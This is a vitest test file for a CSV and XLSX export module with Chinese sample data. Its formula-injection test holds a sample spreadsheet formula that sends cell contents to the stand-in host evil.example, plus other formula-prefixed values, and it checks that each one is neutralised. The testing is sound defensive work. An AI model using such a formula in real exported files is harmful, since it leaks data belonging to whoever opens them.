import { unzipSync, strFromU8 } from 'fflate';
import { describe, expect, it } from 'vitest';
import { buildXlsx, toCsv } from './export-table.js';

describe('toCsv', () => {
  it('quotes commas, quotes and newlines', () => {
    expect(toCsv({ name: 's', header: ['单位', '得分'], rows: [['甲,乙', '9.5'], ['说"明"', null]] })).toBe('单位,得分\r\n"甲,乙",9.5\r\n"说""明""",');
  });
});

describe('formula injection', () => {
  it('CSV and XLSX cells that begin with = + - @ tab or CR are neutralised; numbers are not', () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")';
    const sheet = { name: 's', header: ['指标', '得分'], rows: [[evil, '-5'], ['@SUM(A1)', -2.5], ['+1+1', '\t=1']] as (string | number)[][] };
    const csv = toCsv(sheet);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点击"")"`);
    expect(csv).toContain(",-5\r\n'@SUM(A1),-2.5\r\n'+1+1,'\t=1");
    for (const line of csv.split('\r\n')) for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@\t\r]/);
    const xml = strFromU8(unzipSync(buildXlsx([sheet]))['xl/worksheets/sheet1.xml']!);
    // XLSX: the text as written, in the quote-prefixed Text style (never a formula); numbers stay numbers.
    expect(xml).toContain('<c r="A2" t="inlineStr" s="1"><is><t xml:space="preserve">=HYPERLINK(');
    expect(xml).toContain('<c r="A3" t="inlineStr" s="1"><is><t xml:space="preserve">@SUM(A1)</t>');
    expect(xml).toContain('<c r="B2"><v>-5</v></c>');
    expect(xml).not.toMatch(/<f>/);
    const styles = strFromU8(unzipSync(buildXlsx([sheet]))['xl/styles.xml']!);
    expect(styles).toContain('numFmtId="49"');
    expect(styles).toContain('quotePrefix="1"');
  });
});

describe('buildXlsx', () => {
  it('writes a workbook whose sheets hold the rows, decimals as numbers exactly as written', () => {
    const bytes = buildXlsx([
      { name: '得分排名', header: ['单位', '得分'], rows: [['市教育考试院', '98.125'], ['<党政办公室>', null]] },
      { name: '等级分布', header: ['等级', '份数'], rows: [['优', 2]] },
    ]);
    const files = unzipSync(bytes);
    expect(Object.keys(files).sort()).toEqual(
      ['[Content_Types].xml', '_rels/.rels', 'xl/_rels/workbook.xml.rels', 'xl/styles.xml', 'xl/workbook.xml', 'xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml'].sort(),
    );
    const s1 = strFromU8(files['xl/worksheets/sheet1.xml']!);
    expect(s1).toContain('<c r="B2"><v>98.125</v></c>');
    expect(s1).toContain('&lt;党政办公室&gt;');
    expect(strFromU8(files['xl/workbook.xml']!)).toContain('name="等级分布"');
  });
});
